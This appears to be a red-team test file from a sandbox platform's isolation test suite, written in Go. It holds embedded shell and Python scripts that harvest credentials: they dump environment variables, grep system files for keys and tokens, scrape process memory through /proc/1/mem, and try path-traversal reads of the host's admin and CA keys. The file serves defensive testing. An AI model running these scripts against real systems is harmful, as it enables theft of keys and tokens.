package redteam

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"path/filepath"
	"strings"
	"time"

	"github.com/space-platform/space/pkg/apiv1"
)

func credentialAttempts() []Attempt {
	return []Attempt{
		{
			Name: "API keys and tokens in env, files and /run", Category: Credentials,
			Expected: "none but the sandbox's own", Escape: "a host API key or another sandbox's token inside the sandbox",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sort -u
ls -la /run /run/space /var/run /.space /.space/bin /root 2>&1 | head -60
files=$(grep -rIlE 'api[_-]?key|access[_-]?token|Bearer |BEGIN (EC |RSA )?PRIVATE KEY' /etc /run /root /home /tmp /.space /var/lib 2>/dev/null | head -20)
for f in $files; do echo "== $f"; head -c 2000 "$f"; echo; done
blocked "$(echo "$files" | grep -c .) files mention keys or tokens; their content is scanned for the host's"`)
			},
		},
		{
			Name: "strings in the agent's memory", Category: Credentials,
			Expected: "only this sandbox's own token", Escape: "the API key or other sandboxes' tokens in the agent's memory",
			Timeout: 3 * time.Minute, // an emulated guest's Python is slow
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, `
import re, time
seen, total, began = set(), 0, time.time()
# Within the attempt's time: an emulated guest short of memory reads slowly.
deadline, cut = began + 140, ""
pat = re.compile(rb"[A-Za-z0-9_\-\.=+/]{24,200}")
try: maps = open("/proc/1/maps").readlines()
except OSError as e:
    blocked("the agent's memory map is not readable: " + e.strerror); sys.exit(0)
# Small: a 128 MiB guest has about 20 MiB to spare, and a scan that
# pushes it into reclaim crawls under emulation. So the memory is read in
# 256 KiB chunks, strings are printed as they are found (the runner scans
# the output), and only their hashes are kept to skip repeats.
chunk = 256 << 10
for line in maps:
    f = line.split()
    if "r" not in f[1] or (len(f) > 5 and f[5].startswith("[v")): continue
    lo, hi = (int(x, 16) for x in f[0].split("-"))
    if hi - lo > 256 << 20: continue
    try:
        with open("/proc/1/mem", "rb", buffering=0) as m:
            m.seek(lo); prev = b""
            for off in range(lo, hi, chunk):
                if time.time() > deadline:
                    cut = " (cut short at %ds)" % (time.time() - began); break
                data = m.read(min(chunk, hi - off))
                total += len(data)
                # Untouched pages read as zeros and hold no token.
                if data.count(0) == len(data):
                    prev = b""; continue
                for w in pat.findall(prev + data):
                    h = hash(w)
                    if h not in seen and len(seen) < 60000:
                        seen.add(h); sys.stdout.write(w.decode("latin-1") + "\n")
                prev = data[-256:]
    except (OSError, ValueError, OverflowError): continue
blocked("read %d MiB of the agent's memory in %ds%s, %d distinct token-like strings (scanned for the host's secrets)" % (total >> 20, time.time() - began, cut, len(seen)))`)
			},
		},
		{
			Name: "the server's keys by path", Category: Credentials,
			Expected: "not found", Escape: "reading the admin key, secrets key or CA key of the host",
			Run: func(ctx context.Context, s *Scene) Verdict {
				dir := s.cfg.DataDir
				if dir == "" {
					dir = "/var/lib/space"
				}
				var paths []string
				for _, f := range []string{"admin.key", "secrets.key", "ca/ca.key", "state.db"} {
					paths = append(paths, filepath.Join(dir, f), "/proc/1/root"+filepath.Join(dir, f), "/../../.."+filepath.Join(dir, f))
				}
				v := s.sh(ctx, `for f in admin.key secrets.key ca/ca.key; do for d in "$DATA_DIR" /var/lib/space; do
  [ -n "$d" ] && head -c 4096 "$d/$f" 2>/dev/null | base64 -w0 && echo; done; done
blocked "$(cat "${DATA_DIR:-/var/lib/space}/admin.key" 2>&1 | sed 's/.*: //')"`)
				if v.Outcome != Blocked {
					return v
				}
				api := filesAPIRead(ctx, s, paths)
				if api.Outcome != Blocked {
					return api
				}
				return blocked("in the sandbox: %s; through the files API: %s", v.Evidence, tail(api.Evidence, 160))
			},
		},
		{
			Name: "fw_cfg items from the host", Category: Credentials,
			Expected: "only the sandbox's own environment", Escape: "a host path, key or another sandbox's secret handed to the guest by QEMU's fw_cfg",
			Run: func(ctx context.Context, s *Scene) Verdict {
				// QEMU hands a microVM guest its agent's environment this
				// way (opt/space/env): it must hold nothing of the host's
				// or of another sandbox's. Its content is scanned for the
				// host's secrets; host paths are looked for here.
				return s.sh(ctx, `d=/sys/firmware/qemu_fw_cfg
[ -d $d ] || modprobe qemu_fw_cfg 2>/dev/null
if [ ! -d $d/by_key ]; then blocked "no fw_cfg in $(ls /sys/firmware 2>&1 | tr '\n' ' ')"; exit 0; fi
items=""; hits=""; pats=""
for p in "$VICTIM_ID" "$DATA_DIR" "$CANARY_DIR" /var/lib/space; do [ -n "$p" ] && pats="$pats -e $p"; done
for k in $d/by_key/*; do
  i=$(cat $k/name 2>/dev/null); [ -n "$i" ] || i=key-${k##*/}; items="$items $i"
  echo "== $i ($(cat $k/size 2>/dev/null) bytes)"; head -c 8192 $k/raw 2>/dev/null | tr -c '[:print:]\n' '.'; echo
  # One read of each item: the kernel and initramfs are items too, tens
  # of MiB that an emulated guest reads slowly.
  for h in $(grep -aoF $pats $k/raw 2>/dev/null | sort -u); do
    [ "$h" = "$VICTIM_ID" ] && h="the-victim's-id"; hits="$hits $i:$h"
  done
done
[ -n "$hits" ] && escaped "fw_cfg items name host paths or the victim:$hits"
(echo x > $d/by_name/opt/space/env/raw) 2>/dev/null && w="writable" || w="read-only"
blocked "$(echo $items | wc -w) fw_cfg items ($(echo $items | tr '\n' ' ' | cut -c1-120)); the environment item is $w in the guest"`)
			},
		},
		{
			Name: "call the victim's agent or the host proxy", Category: Credentials,
			Expected: "refused", Escape: "driving another sandbox's agent",
			Run: controlled(`
t = [(a, "49983") for a in (env("VICTIM_HOST"), env("VICTIM_GW"))]
t += [(a, p) for a in host_addrs + [env("UPLINK_HOST")] for p in ("3000", "3001", "49983")]
probe_all(t, "agent or proxy")`),
		},
		{
			Name: "find an injected secret inside the sandbox", Category: Credentials,
			Requires: []Feature{FeatureSecrets, FeatureNames},
			Expected: "only the placeholder", Escape: "the secret the gateway injects, readable by the sandbox",
			Timeout: 2 * time.Minute,
			Run:     injectedSecret,
		},
	}
}

// injectedSecret stores a secret, gives a sandbox a header rule and a
// placeholder for it, makes the sandbox use both, and then hunts for the
// secret in its environment, files and memory.
func injectedSecret(ctx context.Context, s *Scene) Verdict {
	name := "REDTEAM_" + strings.ToUpper(randomHex(4))
	value := "space-redteam-secret-" + randomHex(16)
	s.host.secrets["injected secret"] = value
	defer delete(s.host.secrets, "injected secret")
	if _, _, err := s.raw.do(ctx, http.MethodPost, "/v1/secrets", map[string]string{"name": name, "value": value}); err != nil {
		return failed("store a secret: %v", err)
	}
	s.facts["SECRET_NAME"] = name
	host := s.cfg.AllowedName
	on := true
	body := map[string]any{
		"template": s.cfg.Template, "timeout_s": 600,
		"network": apiv1.NetworkPolicy{AllowInternet: &on},
		"credentials": []map[string]string{
			{"host": host, "header": "Authorization", "value": "Bearer ${" + name + "}"},
			{"host": host, "env": "RT_PLACEHOLDER", "secret": name},
		},
	}
	if s.cfg.Runtime != "" {
		body["runtime"] = s.cfg.Runtime
	}
	if s.cfg.MemoryMB > 0 {
		body["memory_mb"] = s.cfg.MemoryMB
	}
	_, out, err := s.raw.do(ctx, http.MethodPost, "/v1/sandboxes", body)
	if err != nil {
		return failed("create a sandbox with credential rules: %v", err)
	}
	var sb apiv1.Sandbox
	if err := json.Unmarshal(out, &sb); err != nil {
		return failed("decode the sandbox: %v", err)
	}
	s.record(string(out))
	defer func() {
		dctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		_ = s.api.DeleteSandbox(dctx, sb.ID)
	}()
	if _, err := s.api.WaitSandbox(ctx, sb.ID, apiv1.StateRunning, time.Minute); err != nil {
		return failed("wait for the sandbox with credential rules: %v", err)
	}
	res, err := s.exec(ctx, sb.ID, "root", []string{"/bin/bash", "-c", scriptPrelude + fmt.Sprintf(`
curl -ksS -m 5 -H "X-Echo: $RT_PLACEHOLDER" https://%[1]s/ >/dev/null 2>&1; curl -sS -m 5 http://%[1]s/?p=$RT_PLACEHOLDER >/dev/null 2>&1
[ -n "$REACH" ] && curl -sS -m 5 -H "X-Echo: $RT_PLACEHOLDER" "http://$REACH/?p=$RT_PLACEHOLDER" 2>&1 | head -c 4000
env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'
grep -rIa --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -o 'space-redteam-secret-[0-9a-f]*' / 2>/dev/null | head
python3 - <<'PY'
import re
for pid in [p for p in __import__("os").listdir("/proc") if p.isdigit()]:
    try:
        for line in open("/proc/%%s/maps" %% pid):
            f = line.split(); lo, hi = (int(x, 16) for x in f[0].split("-"))
            if "r" not in f[1] or hi - lo > 256 << 20: continue
            with open("/proc/%%s/mem" %% pid, "rb") as m:
                m.seek(lo); data = m.read(hi - lo)
            for w in set(re.findall(rb"space-redteam-secret-[0-9a-f]{32}", data)): print("memory", pid, w.decode())
    except (OSError, ValueError, OverflowError): pass
PY
blocked "placeholder $(printenv RT_PLACEHOLDER | cut -c1-24)...; env, files and memory scanned for the secret"`, host)})
	v := s.judge(res, err)
	if v.Outcome == Blocked && !strings.Contains(res.Stdout, "placeholder ") {
		return failed("the sandbox got no placeholder")
	}
	return v
}
